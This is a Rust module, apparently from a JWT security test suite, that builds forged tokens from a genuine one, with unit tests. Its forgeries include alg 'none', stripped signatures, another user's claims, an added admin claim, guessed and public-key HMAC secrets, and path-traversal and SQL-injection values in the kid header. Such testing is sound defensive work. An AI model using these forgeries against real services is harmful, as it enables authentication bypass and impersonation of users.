//! A JSON Web Token that its issuer never signed.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value, json};

use super::keys::{OwnKey, Shared};
use crate::language::translated;
use crate::suite::parameters::JwtForgery;

/// A year in seconds, by which the end of a token is moved.
const YEAR: i64 = 365 * 24 * 3600;

/// The keys of the examples that are copied most.
const EXAMPLES: &[&str] = &[
    "secret",
    "your-256-bit-secret",
    "a-string-secret-at-least-256-bits-long",
    "jwt_secret",
    "your_secret_key",
    "123456",
    "changeme",
    "key",
];

/// Claims that every token has for itself, so that another person's tell nothing.
const OF_EACH_TOKEN: &[&str] = &["iat", "exp", "nbf", "jti", "auth_time"];

/// The members of an object of JSON.
type Members = Map<String, Value>;

/// A token taken apart; by the shape of its parts it is a JSON Web Token (RFC 7515 section 3.1).
#[derive(Clone, Debug)]
pub(crate) struct Jwt {
    header: Members,
    /// Absent when what is signed is no object of JSON.
    claims: Option<Members>,
    parts: [String; 3],
}

/// A forged token, and what is wrong with it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Forgery {
    pub(crate) what: String,
    pub(crate) token: String,
}

/// What a forger can lay hands on beside the token.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Loot<'a> {
    /// Somebody else's token.
    pub(crate) other: Option<&'a Jwt>,
    /// The published keys, in each form in which a library may hold one.
    pub(crate) published: &'a [Shared],
}

impl Jwt {
    /// Takes a token apart, if it is one.
    pub(crate) fn of(token: &str) -> Option<Self> {
        let [header, claims, signature] = token.split('.').collect::<Vec<_>>()[..] else { return None };
        let parsed = members(header).filter(|members| members.get("alg").is_some_and(Value::is_string))?;
        let parts = [header, claims, signature].map(ToOwned::to_owned);
        Some(Self { header: parsed, claims: members(claims), parts })
    }

    /// Returns every forgery of a kind that can be made of the token.
    pub(crate) fn forged(&self, kind: JwtForgery, loot: Loot<'_>) -> Vec<Forgery> {
        let all = match kind {
            JwtForgery::AlgNone => self.without_algorithm(),
            JwtForgery::SignatureRemoved => self.without_signature(),
            JwtForgery::ClaimsChanged => self.with_other_claims(loot.other),
            JwtForgery::HeaderChanged => self.with_another_header(),
            JwtForgery::KeyedWithNothing => {
                let keys = ["HS256", "HS384", "HS512"].map(Shared::empty);
                keys.iter().map(|key| self.keyed_with(key, &[])).collect()
            }
            JwtForgery::KeyedWithWord => {
                let keys =
                    EXAMPLES.iter().map(|word| Shared::new(&format!("{word:?}"), word.as_bytes().to_vec()));
                keys.map(|key| self.keyed_with(&key, &[])).collect()
            }
            JwtForgery::KeyedWithPublicKey => {
                loot.published.iter().map(|key| self.keyed_with(key, &[])).collect()
            }
            JwtForgery::KeyNamed => self.with_key_named(),
            JwtForgery::OwnKey => self.with_own_key(),
        };
        let genuine = self.parts.join(".");
        all.into_iter().filter(|forgery| forgery.token != genuine).collect()
    }

    fn without_algorithm(&self) -> Vec<Forgery> {
        let [_, claims, signature] = &self.parts;
        let mut found = Vec::new();
        for algorithm in ["none", "None", "NONE", "nOnE", ""] {
            let header = encoded(&self.header_with(&[("alg", json!(algorithm))]));
            let mut add = |what: String, token: String| found.push(Forgery { what, token });
            let algorithm = format!("{algorithm:?}");
            add(tr!("alg {algorithm} and an empty signature", algorithm), format!("{header}.{claims}."));
            add(tr!("alg {algorithm} and no signature", algorithm), format!("{header}.{claims}"));
            let unchanged = format!("{header}.{claims}.{signature}");
            add(tr!("alg {algorithm} and the old signature", algorithm), unchanged);
        }
        let mut header = self.header.clone();
        header.shift_remove("alg");
        let token = format!("{}.{claims}.", encoded(&header));
        found.push(Forgery { what: tr!("no alg and an empty signature"), token });
        found
    }

    fn without_signature(&self) -> Vec<Forgery> {
        let [header, claims, signature] = &self.parts;
        let forgery = |what: String, token| Forgery { what, token };
        vec![
            forgery(tr!("an empty signature"), format!("{header}.{claims}.")),
            forgery(tr!("no signature"), format!("{header}.{claims}")),
            forgery(
                tr!("a signature of zeros"),
                format!("{header}.{claims}.{}", "A".repeat(signature.len())),
            ),
        ]
    }

    fn with_other_claims(&self, other: Option<&Self>) -> Vec<Forgery> {
        let [header, _, signature] = &self.parts;
        let forgery =
            |what: String, claims: &str| Forgery { what, token: format!("{header}.{claims}.{signature}") };
        let mut found: Vec<Forgery> = other
            .iter()
            .map(|other| forgery(tr!("another person's claims under the old signature"), &other.parts[1]))
            .collect();
        let Some(claims) = &self.claims else { return found };
        let mut change = |what: String, change: &dyn Fn(&mut Members)| {
            let mut changed = claims.clone();
            change(&mut changed);
            found.push(forgery(what, &encoded(&changed)));
        };
        if let Some(others) = other.and_then(|other| other.claims.as_ref()) {
            change(tr!("another person's name under the old signature"), &|claims| {
                let of_the_person =
                    claims.iter_mut().filter(|(name, _)| !OF_EACH_TOKEN.contains(&name.as_str()));
                for (name, value) in of_the_person {
                    *value = others.get(name).unwrap_or(value).clone();
                }
            });
        }
        change(tr!("an end a year later under the old signature"), &|claims| {
            let ends = claims.get("exp").and_then(Value::as_i64).unwrap_or(0);
            // Without an end of its own the token gets one that is far away.
            let later = if ends == 0 { 100 * YEAR } else { ends.saturating_add(YEAR) };
            claims.insert("exp".to_owned(), json!(later));
        });
        change(tr!("a claim more under the old signature"), &|claims| {
            claims.insert("admin".to_owned(), json!(true));
        });
        found
    }

    fn with_another_header(&self) -> Vec<Forgery> {
        let [_, claims, signature] = &self.parts;
        let algorithm = self.header.get("alg").and_then(Value::as_str).unwrap_or_default();
        let stronger = format!("{}512", algorithm.get(..2).unwrap_or("HS"));
        let other = if algorithm == stronger { "HS256".to_owned() } else { stronger };
        let changes = [
            (tr!("another alg over the old signature"), ("alg", json!(other))),
            (tr!("another typ over the old signature"), ("typ", json!("at+jwt"))),
            (tr!("another kid over the old signature"), ("kid", json!("wxconform"))),
        ];
        let forgery = |(what, change): (String, (&str, Value))| Forgery {
            what,
            token: format!("{}.{claims}.{signature}", encoded(&self.header_with(&[change]))),
        };
        changes.into_iter().map(forgery).collect()
    }

    /// Lets the header name a key that a careless backend reads from a file or a table.
    fn with_key_named(&self) -> Vec<Forgery> {
        let up = "../".repeat(10);
        let nothing = Shared::empty("HS256");
        let word = Shared::new(&tr!("a word"), b"wxconform".to_vec());
        let kernel = Shared::new(&tr!("the name of the kernel"), b"Linux\n".to_vec());
        let named = [
            ("/dev/null".to_owned(), &nothing),
            (format!("{up}dev/null"), &nothing),
            ("/proc/sys/kernel/ostype".to_owned(), &kernel),
            (format!("{up}proc/sys/kernel/ostype"), &kernel),
            ("x' UNION SELECT 'wxconform' -- ".to_owned(), &word),
            ("x\" UNION SELECT 'wxconform' -- ".to_owned(), &word),
        ];
        let forgery = |(kid, key): (String, &Shared)| {
            let made = self.keyed_with(key, &[("kid", json!(kid))]);
            Forgery {
                what: tr!("kid {kid} and {what}", what = made.what, kid = format_args!("{kid:?}")),
                ..made
            }
        };
        named.into_iter().map(forgery).collect()
    }

    /// Lets the header bring the key along.
    fn with_own_key(&self) -> Vec<Forgery> {
        let forgery = |key: OwnKey| {
            let changes = [("alg", json!(key.algorithm)), ("jwk", key.public.clone())];
            let signed = format!("{}.{}", encoded(&self.header_with(&changes)), self.parts[1]);
            let signature = (key.sign)(signed.as_bytes())?;
            let token = format!("{signed}.{}", URL_SAFE_NO_PAD.encode(signature));
            Some(Forgery {
                what: tr!("{key} of the forger's in its header", key = translated(key.name)),
                token,
            })
        };
        OwnKey::all().into_iter().filter_map(forgery).collect()
    }

    fn keyed_with(&self, key: &Shared, changes: &[(&str, Value)]) -> Forgery {
        let mut all = vec![("alg", json!(key.algorithm))];
        all.extend(changes.iter().cloned());
        let signed = format!("{}.{}", encoded(&self.header_with(&all)), self.parts[1]);
        let token = format!("{signed}.{}", URL_SAFE_NO_PAD.encode(key.sign(signed.as_bytes())));
        Forgery {
            what: tr!("an {algorithm} signature keyed with {key}", algorithm = key.algorithm, key = key.name),
            token,
        }
    }

    fn header_with(&self, changes: &[(&str, Value)]) -> Members {
        let mut header = self.header.clone();
        for (name, value) in changes {
            header.insert((*name).to_owned(), value.clone());
        }
        header
    }
}

/// Decodes a part of a token that is an object of JSON.
fn members(part: &str) -> Option<Members> {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok()
}

fn encoded(members: &Members) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(members.clone()).to_string())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::{Forgery, Jwt, Loot, encoded};
    use crate::suite::forgery::keys::Shared;
    use crate::suite::parameters::JwtForgery;

    const KINDS: [JwtForgery; 8] = [
        JwtForgery::AlgNone,
        JwtForgery::SignatureRemoved,
        JwtForgery::ClaimsChanged,
        JwtForgery::HeaderChanged,
        JwtForgery::KeyedWithNothing,
        JwtForgery::KeyedWithPublicKey,
        JwtForgery::KeyNamed,
        JwtForgery::OwnKey,
    ];

    fn token(algorithm: &str, claims: &str) -> String {
        let text = |json: &str| encoded(&serde_json::from_str(json).unwrap());
        format!("{}.{}.c2lnbmF0dXJl", text(&format!(r#"{{"alg":"{algorithm}","typ":"JWT"}}"#)), text(claims))
    }

    fn forged(algorithm: &str, kind: JwtForgery) -> Vec<Forgery> {
        let jwt = Jwt::of(&token(algorithm, r#"{"sub":"o1","exp":100,"jti":"a"}"#)).unwrap();
        let other = Jwt::of(&token(algorithm, r#"{"sub":"o2","exp":200,"jti":"b"}"#)).unwrap();
        let published = [Shared::new("the published key", b"-----BEGIN".to_vec())];
        jwt.forged(kind, Loot { other: Some(&other), published: &published })
    }

    #[test]
    fn only_three_parts_with_a_header_are_a_jwt() {
        assert!(Jwt::of(&token("HS256", "{}")).is_some());
        for other in ["", "abc", "a.b.c", "e30.e30.c2ln", "WyJhbGciXQ.e30.c2ln", "a.b.c.d.e"] {
            assert!(Jwt::of(other).is_none(), "{other}");
        }
        // What is signed may be anything.
        assert!(Jwt::of("eyJhbGciOiJIUzI1NiJ9.aGVsbG8.c2ln").is_some());
    }

    #[test]
    fn no_forgery_is_the_genuine_token_and_none_is_made_twice() {
        for algorithm in ["HS256", "HS512", "RS256", "RS512", "ES256", "none"] {
            let genuine = token(algorithm, r#"{"sub":"o1","exp":100,"jti":"a"}"#);
            for kind in KINDS {
                let made = forged(algorithm, kind);
                let tokens: BTreeSet<&str> = made.iter().map(|forgery| forgery.token.as_str()).collect();
                assert!(!made.is_empty(), "{kind:?} of {algorithm}");
                assert_eq!(tokens.len(), made.len(), "{kind:?} of {algorithm}: {made:?}");
                assert!(!tokens.contains(genuine.as_str()), "{kind:?} of {algorithm}");
            }
        }
    }

    #[test]
    fn the_claims_become_another_persons_and_live_longer() {
        let claims: Vec<_> = forged("HS256", JwtForgery::ClaimsChanged)
            .into_iter()
            .map(|forgery| Jwt::of(&forgery.token).unwrap().claims.unwrap())
            .collect();
        assert_eq!((&claims[0]["sub"], &claims[0]["exp"]), (&"o2".into(), &200.into()));
        assert_eq!((&claims[1]["sub"], &claims[1]["jti"]), (&"o2".into(), &"a".into()));
        assert_eq!((&claims[2]["sub"], &claims[2]["exp"]), (&"o1".into(), &31_536_100.into()));
    }

    #[test]
    fn every_spelling_of_none_is_tried_with_and_without_the_last_dot() {
        let made = forged("HS256", JwtForgery::AlgNone);
        assert_eq!(made.len(), 16);
        assert_eq!(made.iter().filter(|forgery| forgery.token.ends_with('.')).count(), 6);
        assert_eq!(made.iter().filter(|forgery| forgery.token.matches('.').count() == 1).count(), 5);
    }
}
